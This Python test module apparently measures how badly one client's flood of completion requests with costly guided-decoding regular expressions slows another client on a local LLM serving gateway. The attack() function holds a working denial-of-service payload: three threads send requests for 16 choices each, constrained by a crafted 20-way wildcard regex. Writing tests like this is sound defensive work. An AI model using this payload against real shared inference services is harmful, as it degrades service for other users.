"""Forms that are quickly compiled and slow to follow: what may come next takes milliseconds to find, after each token of each of many answers."""

import itertools
import os
import tempfile
import threading

from api_keys import key_line, write_private
from bystanders import harm_of
from fleet import Fleet
from raw_http import ask

WHAT = "48 answers of one client follow forms whose masks take milliseconds each"
CONNECTIONS, CHOICES = 3, 16


def body(number):
    ways = "|".join(f"([a-f]|x.{{{k}}}).{{{8 + k}}}" for k in range(20))
    return {"prompt": "x", "max_tokens": 60, "n": CHOICES, "temperature": 1.5, "guided_regex": f"({number}|{ways})*"}


def attack():
    numbers = itertools.count()

    def send(is_over):
        while not is_over.is_set():
            try:
                ask(fleet.port, "POST", "/v1/completions", body(next(numbers)), (("Authorization", "Bearer mallory"),))
            except OSError:
                pass

    def run(is_over):
        threads = [threading.Thread(target=send, args=(is_over,), daemon=True) for _ in range(CONNECTIONS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    with tempfile.TemporaryDirectory(prefix="longhaul-keys-") as folder:
        path = write_private(os.path.join(folder, "keys"), key_line("mallory", "mallory") + key_line("alice", "alice"))
        with Fleet(workers=1, gateway_flags=["--api-key-file", path]) as fleet:
            quiet = harm_of(fleet, 4, key="alice")
            attacked = harm_of(fleet, 8, run, key="alice")
            return quiet, attacked
